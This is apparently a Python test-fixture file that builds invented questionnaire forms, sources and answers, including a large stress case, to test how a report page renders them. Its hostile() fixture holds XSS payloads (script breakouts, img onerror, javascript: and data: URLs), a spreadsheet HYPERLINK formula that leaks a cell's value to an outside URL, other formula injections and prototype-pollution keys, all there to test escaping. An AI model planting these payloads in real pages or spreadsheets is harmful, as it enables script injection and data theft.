"""The invented States of the tests: one of every outcome and kind, one that is hostile, one that is large."""

from world import FORM, RESPONDENT, World

SECRET = "planted-secret-7f3a9c"
YES_NO_PARTS = [{"code": "yes", "label": "Yes"}, {"code": "part", "label": "In part"}, {"code": "no", "label": "No"}]
COLOURS = [{"code": "red", "label": "Red"}, {"code": "green", "label": "Green"}, {"code": "blue", "label": "Blue"}]
TABLE = {"rows": ["women", "men"], "columns": ["2023", "2024"]}
CELLS = {"table": {"columns": ["2023", "2024"], "rows": [{"key": "women", "cells": [12, None]}, {"key": "men", "cells": [3, 4]}]}}

# A verbatim answer for each kind that a form knows.
KINDS = {
    "yesNo": True, "singleChoice": "part", "multipleChoice": ["red", "blue"], "number": 30, "date": "2025-03-04",
    "text": "A text of two lines.\nThe second one.", "list": ["first", "second"], "table": CELLS,
    "link": {"links": [{"title": "Act 7", "url": "https://example.org/act"}]},
}


def of_kind(kind):
    """What a question of this kind must have beside its kind."""
    return {
        "yesNo": {"quantifier": "any"}, "singleChoice": {"options": YES_NO_PARTS, "quantifier": "single"},
        "multipleChoice": {"options": COLOURS}, "table": {"table": TABLE, "population": "persons", "unit": "person"},
        "number": {"population": "persons", "unit": "person"},
    }.get(kind, {})


def base():
    world = World()
    world.form(FORM, "BODY", title="The form of the tests", acceptedLanguages=["en", "ar", "fr"])
    for name, issuer in (("SRC-A", "AAA"), ("SRC-B", "BBB"), ("SRC-C", "CCC")):
        world.form(name, issuer)
    world.submission("TST-A-2025", "SRC-A", "2025-06-30", document={"title": "Reply A", "url": "https://example.org/a"})
    world.submission("TST-B-2026", "SRC-B", "2026-01-15", document={"title": "Reply B"})
    world.submission("TST-C-2025", "SRC-C", "2025-09-01")
    return world


def ask(world, number, kind="text", section="Alpha", text=None, **more):
    world.question(FORM, number, kind, text, section=section, **of_kind(kind) | more)


def give(world, number, value, source="A", kind="text", text=None, relation="equal", elements=None, status="", **more):
    """A source question that asks the same, with its answer."""
    form = f"SRC-{source}"
    shape = of_kind(kind) | ({"elements": more.pop("shape")} if "shape" in more else {})
    world.question(form, number, kind, text, **shape)
    submission = next(name for name in world.submissions if name.startswith(f"TST-{source}-"))
    if elements is None:
        world.answer(submission, number, value, **more)
    else:
        world.answer(submission, number, elements=elements, **more)
    # A choice is only carried over where somebody says that its codes mean the same.
    transform = {"kind": "identity"} if kind in ("singleChoice", "multipleChoice") else None
    world.same(f"{form}:{number}", f"{FORM}:{number}", relation, status=status, transform=transform)


def every(changed=False):
    """One question of each outcome in two sections, and one of each kind in a third; the same matters with one answer changed."""
    world = base()
    ask(world, "a1", aspect="practice", provisions=["TRT:1"], help="Describe it in a few lines.")
    give(world, "a1", "Reworded after a change." if changed else "There are two houses for victims.")
    ask(world, "a2", "yesNo", aspect="legislation")
    give(world, "a2", True, kind="yesNo")
    ask(world, "a3")
    give(world, "a3", "Training is held twice a year.")
    ask(world, "a4", "yesNo", aspect="legislation")
    give(world, "a4", True, kind="yesNo")
    give(world, "a4", False, "B", kind="yesNo")
    parts = [{"id": "housing", "label": "Housing"}, {"id": "work", "label": "Work"}]
    ask(world, "b1", section="Beta / One", elements=parts)
    give(world, "b1", None, elements={"housing": "Two houses."}, shape=parts)
    ask(world, "b2", section="Beta / One")
    give(world, "b2", "As it was years ago.", date="2012-05-01")
    ask(world, "b3", section="Beta / One")
    give(world, "b3", None, references=[
        {"title": "Yearly report", "symbol": "R/2025/1", "url": "https://example.org/r", "page": "12", "language": "fr"}])
    ask(world, "b4", "singleChoice", section="Beta / One")
    ask(world, "b5", section="Beta / One", provisions=["TRT:2"])
    world.policy["reservations"] = [
        {"respondent": RESPONDENT, "instrument": "TRT", "provisions": ["2"], "validFrom": "2001-01-01"}]
    ask(world, "b6", section="Beta / One")
    give(world, "b6", "From a body that is not recognised.", "C")
    world.policy["recognition"] = [{"id": "R1", "recipient": "BODY", "source": "CCC", "level": "none"}]
    ask(world, "b7", section="Beta / One")
    give(world, "b7", SECRET, classification="restricted")
    ask(world, "b8", section="Beta / One")
    give(world, "b8", "Wider than what is asked.", relation="superset")
    for kind, value in KINDS.items():
        ask(world, f"k-{kind}", kind, "Gamma")
        give(world, f"k-{kind}", value, kind=kind)
        ask(world, f"n-{kind}", kind, "Gamma")
    ask(world, "d1", "yesNo", "Delta")
    ask(world, "d2", section="Delta", enabledIf={"question": "d1", "equals": True})
    return world


SCRIPT = "</script><script>window.hacked=1</script>"
IMAGE = "<img src=x onerror=\"window.hacked=2\">"
COMMENT = "<!--<script>"
BIDI = "\u202eright-to-left override\u2066 isolate, both never closed"
SCRIPT_LINK = "javascript:window.hacked=3"
FORMULA = "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")"
PLACEHOLDERS = "{count} {n} {0} $1 $& %s"
MEGABYTE = "".join(f"Line {line} of a very long answer, which nobody cut.\n" for line in range(20_000))[:1_000_000]
LONG_WORD = "W" * 400


def hostile():
    """Everything that somebody could put into a file to make the page do what it should not."""
    world = base()
    nasty = f"{SCRIPT}{IMAGE}{COMMENT}"
    world.author = f"{IMAGE} & <b>author</b>"
    world.questionnaires[FORM]["title"] = f"Form {nasty}"
    world.submissions["TST-A-2025"]["document"] = {"title": f"Reply {nasty}", "url": SCRIPT_LINK, "symbol": FORMULA}
    ask(world, "h1", text=f"Question {nasty}", help=f"Help {nasty}", section=f"Section {IMAGE}")
    give(world, "h1", f"Answer {nasty}", text=f"Earlier {nasty}", note=f"Note {nasty}", references=[
        {"title": f"Title {nasty}", "url": SCRIPT_LINK},
        {"title": "data", "url": "data:text/html,<script>window.hacked=4</script>"},
        {"title": "upper", "url": " JaVaScRiPt:window.hacked=5"}, {"title": "fine", "url": "https://example.org/fine"}])
    for number, value in (("h2", FORMULA), ("h3", MEGABYTE), ("h4", BIDI), ("h5", PLACEHOLDERS), ("h6", LONG_WORD),
                          ("h7", "\u2028\u2029\ufeff\u0001 odd controls"), ("h8", "+1+1"), ("h9", "@SUM(A1)"), ("h10", "-2+3"),
                          ("h11", "\t=1+1")):
        ask(world, number, section="Texts")
        give(world, number, value)
    for number in ("__proto__", "constructor", "toString"):
        ask(world, number, section="Names")
        give(world, number, f"The answer to {number}.")
    ask(world, "choice", "singleChoice", section="Names", options=[
        {"code": "__proto__", "label": f"Label {IMAGE}"}, {"code": "constructor", "label": "Other"}])
    ask(world, "parts", section="Names", elements=[{"id": "__proto__", "label": IMAGE}, {"id": "hasOwnProperty"}])
    return world


LARGE_QUESTIONS, LARGE_SOURCES = 2_000, 5


def large():
    """2,000 questions, each with five sources, in a hundred sections; every outcome that many sources can have."""
    world = World()
    world.form(FORM, "BODY", title="A form of two thousand questions")
    for source in range(LARGE_SOURCES):
        world.form(f"SRC-{source}", f"BODY-{source}")
        world.submission(f"TST-{source}", f"SRC-{source}", f"{2025 - (source == 4) * 10}-0{source + 1}-01")
    for index in range(LARGE_QUESTIONS):
        number, kind = f"q{index}", "yesNo" if index % 4 == 0 else "text"
        text = f"What is done about matter {index} of area {index % 37}, and by which of the {index % 11} bodies in charge?"
        world.question(FORM, number, kind, text, section=f"Part {index // 200} / Section {index // 20}",
                       aspect=("practice", "legislation", "policy")[index % 3], **of_kind(kind))
        for source in range(LARGE_SOURCES):
            value = (index + source) % 8 != 0 if kind == "yesNo" else (
                f"In year {2020 + source} the ministry {index % 53} began to act on matter {index}. " * (2 + index % 3)
                + f"Source {source} adds this sentence of its own.")
            world.question(f"SRC-{source}", number, kind, f"Matter {index} as form {source} asks for it?", **of_kind(kind))
            world.answer(f"TST-{source}", number, value)
            world.same(f"SRC-{source}:{number}", f"{FORM}:{number}", "superset" if source > 2 and kind == "text" else "equal")
    return world
